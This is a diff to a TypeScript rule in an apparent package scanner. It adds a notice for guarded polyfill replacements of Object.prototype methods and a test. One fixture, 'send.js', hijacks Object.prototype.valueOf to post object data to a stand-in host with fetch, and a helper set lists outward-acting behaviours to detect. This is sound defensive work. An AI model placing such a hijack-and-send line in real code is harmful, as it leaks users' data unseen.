@@ -40,6 +40,11 @@ export const globalsPatched: Rule = defineRule({
       level: 'notice',
       about: 'It happens only where a variable of the environment is set that is called after it, and nothing sets it.',
     },
+    'language-mended': {
+      level: 'notice',
+      about:
+        'A method that every object has is replaced under a test, and neither its file nor what loads with it sends, writes or starts anything.',
+    },
     'in-program': { level: 'notice', about: 'A command line tool replaces it in its own process, and nowhere else.' },
   },
   flags: [
@@ -261,6 +266,34 @@ if (process.env.NODE_ENV !== 'production') attempt(() => null);
       ],
     },
     {
+      title: 'a method of every object, where the engine is found to lack something: alone, and beside a request',
+      before: { 'package.json': { exports: { './*': './*' } } },
+      after: {
+        'package.json': { exports: { './*': './*' } },
+        'mend.js': `const tag = {};
+tag[Symbol.toStringTag] = 'z';
+if (String(tag) !== '[object z]') Object.prototype.toString = function () { return '[object Object]'; };
+`,
+        'send.js': `const tag = {};
+tag[Symbol.toStringTag] = 'z';
+if (String(tag) !== '[object z]') Object.prototype.valueOf = function () { fetch('https://far.invalid/', { body: this }); };
+`,
+      },
+      expect: [
+        {
+          kind: 'language-mended',
+          message: 'Object.prototype.toString is replaced',
+          at: { in: 'tarball', path: 'mend.js', line: 3 },
+          via: ['exports/.~1*', 'mend.js'],
+        },
+        {
+          message: 'Object.prototype.valueOf is replaced',
+          at: { in: 'tarball', path: 'send.js', line: 3 },
+          via: ['exports/.~1*', 'send.js'],
+        },
+      ],
+    },
+    {
       title: 'a command line tool that waits for its output before it ends',
       before: { 'index.js': '', 'cli.js': '', 'package.json': { bin: 'cli.js' } },
       after: {
@@ -363,12 +396,14 @@ Object.defineProperty(Object.prototype, 'sampleGlobal', { get: function () { ret
       // Editors put what is copied from them into a form of their own, and buttons copy what stands beside them.
       if (/^(?:clipboardData|navigator\.clipboard)\./.test(behavior.api)) return [];
       if (isAskedFor(behavior, files)) return [evidenceOf(behavior, message, 'asked-for')];
-      return [evidenceOf(behavior, message, isRestored(behavior, behaviors.added) ? 'restored' : kindOf(behavior))];
+      if (isRestored(behavior, behaviors.added)) return [evidenceOf(behavior, message, 'restored')];
+      const isMended = mends(behavior, behaviors.added);
+      return [evidenceOf(behavior, message, isMended ? 'language-mended' : kindOf(behavior))];
     });
   },
 });
 
-type Kind = 'with-addresses' | 'restored' | 'when-called' | 'asked-for' | 'in-program';
+type Kind = 'with-addresses' | 'restored' | 'language-mended' | 'when-called' | 'asked-for' | 'in-program';
 
 /** By a variable of the environment, which no file of the package sets. */
 function isAskedFor({ guards }: Behavior, { after }: FileComparison): boolean {
@@ -389,6 +424,24 @@ function isRestored({ api, path, line, tier, marks }: Behavior, added: readonly 
       Math.abs(one.line - line) < 60 &&
       one.line !== line,
   );
+}
+
+const acting: ReadonlySet<Behavior['kind']> = new Set([
+  'network', 'disclosure', 'child-process', 'file-write', 'file-delete', 'computed-import', 'computed-call', 'native-code',
+]); // biome-ignore format: a list of names
+
+/** `Object.prototype.toString`: an engine's gap by which something else is told, as polyfills of the language fill it. */
+function mends({ api, path, tier, marks, guards }: Behavior, added: readonly Behavior[]): boolean {
+  if (tier !== 'load' || guards.length > 0 || !marks.includes('conditional')) return false;
+  if (!/^Object\.prototype\.(?:toString|propertyIsEnumerable|valueOf|hasOwnProperty)$/.test(api)) return false;
+  return !added.some((one) => (one.path === path || one.tier === 'load') && actsOutside(one));
+}
+
+/** Polyfills find the global object, and bind constructors, by text: that is the caller's own. */
+function actsOutside({ kind, origins, tier }: Behavior): boolean {
+  if (tier === 'unreached') return false;
+  const isForeign = origins.some((one) => one !== 'parameter' && one !== 'environment');
+  return acting.has(kind) || (kind === 'dynamic-code' && isForeign);
 }
 
 function kindOf({ tier, root }: Behavior): Kind | undefined {
